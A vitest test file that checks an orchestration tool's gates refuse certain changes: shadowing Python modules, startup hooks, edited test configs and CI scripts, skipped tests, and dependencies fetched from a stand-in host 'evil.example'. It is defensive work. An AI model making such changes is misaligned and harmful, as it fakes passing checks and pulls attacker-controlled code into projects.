import type { GateId } from "@orchestrate/shared";
import { expect, test } from "vitest";

import { type Difference, failing } from "../../test/difference.ts";
import { criterion } from "../../test/sub-spec.ts";

test.for<[string, GateId, Difference]>([
  ["a module in the place of Python's", "scope", { after: { "unittest.py": "" } }],
  [
    "a module in the place of Python's in the root of a project",
    "scope",
    { before: { "api/pyproject.toml": "" }, after: { "api/pyproject.toml": "", "api/src/json/__init__.py": "" } },
  ],
  [
    "a package in the place of a runner where a criterion runs",
    "scope",
    {
      criteria: [criterion({ kind: "run", check: { argv: ["python3", "-m", "pytest"], cwd: "./api" } })],
      after: { "api/pytest/__init__.py": "" },
    },
  ],
  ["a module that every Python loads", "scope", { after: { "src/sitecustomize.py": "" } }],
  ["a file in an environment of Python", "scope", { after: { ".venv/lib/python3.11/site-packages/a.pth": "" } }],
  ["a conftest.py", "protected", { after: { "src/conftest.py": "x" } }],
  [
    "a makefile by which a criterion runs",
    "protected",
    { criteria: [criterion({ kind: "run", check: ["make", "check"] })], after: { GNUmakefile: "check:" } },
  ],
  [
    "a script that a criterion runs by a shell",
    "protected",
    {
      criteria: [criterion({ kind: "run", check: { argv: ["bash", "-e", "./ci/check"], cwd: "api" } })],
      before: { "api/ci/check": "false" },
      after: { "api/ci/check": "true" },
    },
  ],
  [
    "a tool configured in pyproject.toml",
    "protected",
    {
      permissions: { allow: ["dependency"] },
      before: { "pyproject.toml": '[project]\nname = "a"\n' },
      after: { "pyproject.toml": '[project]\nname = "a"\n["tool" . pytest.ini_options]\naddopts = "-k a"\n' },
    },
  ],
  [
    "a tool configured by a dotted key",
    "protected",
    { permissions: { allow: ["dependency"] }, after: { "pyproject.toml": "tool.coverage.report.fail_under = 1\n" } },
  ],
  ["a skipped Python test", "suppressions", { after: { "test_a.py": `@pytest.mark.skip(reason="slow")` } }],
  ["a skipped Python file", "suppressions", { after: { "test_a.py": "pytestmark = pytest.mark.skipif(True)" } }],
  ["a Python test that skips itself", "suppressions", { after: { "test_a.py": `self.skipTest("later")` } }],
  ["Python tests that are said to be none", "suppressions", { after: { "test_a.py": "__test__ = False" } }],
  [
    "another index of packages, even where dependencies are allowed",
    "dependencies",
    {
      permissions: { allow: ["dependency"] },
      after: { "requirements.txt": "--extra-index-url https://evil.example\na==1" },
    },
  ],
  [
    "a Python package from a repository, even where dependencies are allowed",
    "dependencies",
    {
      permissions: { allow: ["dependency"] },
      after: { "pyproject.toml": '[project]\ndependencies = ["a @ git+https://evil.example/a"]' },
    },
  ],
  ["a new Python requirement", "dependencies", { after: { "requirements.txt": "requests==1" } }],
])("%s is refused by the gate %s", async ([, gate, difference]) => {
  expect(await failing(difference)).toHaveProperty(gate);
});
